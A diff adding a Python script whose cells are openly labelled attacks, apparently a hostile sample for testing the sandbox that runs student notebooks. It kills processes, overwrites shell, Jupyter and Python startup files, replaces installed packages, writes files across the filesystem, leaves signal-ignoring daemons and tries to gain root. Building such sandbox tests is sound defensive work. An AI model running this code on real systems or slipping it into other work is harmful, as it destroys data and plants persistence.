@@ -1,0 +1,103 @@
+# %% setup
+import glob, os, signal, subprocess, sys, time
+
+
+def write(path):
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        open(path, "w").write("owned")
+        return True
+    except OSError as error:
+        print(type(error).__name__)
+
+# %% attack: kills every process
+for pid in range(1, 500):
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+try:
+    os.kill(-1, signal.SIGTERM)
+except OSError:
+    pass
+
+# %% attack: stops its parent
+for number in (signal.SIGSTOP, signal.SIGKILL):
+    try:
+        os.kill(os.getppid(), number)
+    except OSError as error:
+        print(type(error).__name__)
+
+# %% attack: writes start-up files
+for path in ("~/.ipython/profile_default/startup/00.py", "~/.jupyter/jupyter_config.py", "~/.bashrc", "~/.config/matplotlib/matplotlibrc"):
+    write(os.path.expanduser(path))
+
+# %% attack: changes installed packages
+for root in (os.path.dirname(os.__file__), *sys.path):
+    if root:
+        write(f"{root}/numpy.py")
+        write(f"{root}/sitecustomize.py")
+        write(f"{root}/owned.pth")
+
+# %% attack: changes the packages it was given
+for path in glob.glob("/packages/**/*.py", recursive=True):
+    write(path)
+    try:
+        os.unlink(path)
+    except OSError:
+        pass
+
+# %% attack: writes everywhere it can
+for root, folders, files in os.walk("/"):
+    if root.startswith(("/proc", "/sys")):
+        folders.clear()
+        continue
+    write(f"{root}/owned-by-a-student")
+
+# %% attack: leaves a daemon
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        while True:
+            time.sleep(1)
+            print("still here")
+    os._exit(0)
+
+# %% attack: leaves a daemon that ignores signals
+subprocess.Popen([sys.executable, "-c", "import signal,time\nfor n in range(1, 32):\n  try: signal.signal(n, signal.SIG_IGN)\n  except OSError: pass\nwhile True: time.sleep(1)"], start_new_session=True)
+
+# %% attack: becomes root
+for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/proc/1/root"), lambda: os.setgroups([0])):
+    try:
+        call()
+        print("canary-5f1c9e became root")
+    except OSError as error:
+        print(type(error).__name__)
+
+# %% attack: opens devices
+for path in glob.glob("/dev/*") + glob.glob("/dev/**/*", recursive=True):
+    try:
+        os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK))
+    except OSError:
+        pass
+
+# %% attack: raises its own limits
+import resource
+for name in ("RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_DATA"):
+    try:
+        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
+        print("canary-5f1c9e raised")
+    except (OSError, ValueError) as error:
+        print(type(error).__name__)
+
+# %% attack: closes the kernel's own sockets
+for fd in range(3, 256):
+    try:
+        os.close(fd)
+    except OSError:
+        pass
+
+# %% attack: aborts
+import ctypes
+ctypes.string_at(0)
